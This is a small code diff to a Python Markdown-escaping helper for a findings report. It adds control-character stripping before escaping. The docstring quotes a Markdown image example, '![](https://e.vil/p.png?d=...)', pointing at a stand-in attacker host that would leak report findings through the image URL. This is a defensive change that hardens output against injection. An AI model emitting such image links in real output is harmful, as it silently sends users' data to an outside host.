@@ -3,11 +3,11 @@
 from __future__ import annotations
 
 import html
-
 from collections import defaultdict
 
 from ..models import DiscoveryResult, Insight, ValidationStatus
 from .claims import checked_summary, claim_line, insight_notes
+from .text import without_controls
 
 BADGE = {
     ValidationStatus.confirmed: "✅ confirmed",
@@ -25,7 +25,7 @@ def _md(text: str) -> str:
     image (``![](https://e.vil/p.png?d=...)`` would have a viewer fetch a URL that carries the findings: red team
     10): backslashes, a bracket before a parenthesis and an image's ``![`` are escaped, so "[confirmed] share"
     still reads as written in the file."""
-    text = html.escape(text or "", quote=False).replace("\\", "\\\\")
+    text = html.escape(without_controls(text or ""), quote=False).replace("\\", "\\\\")
     return text.replace("](", "\\](").replace("![", "!\\[").replace("|", "\\|").replace("\n", " ")
 
 
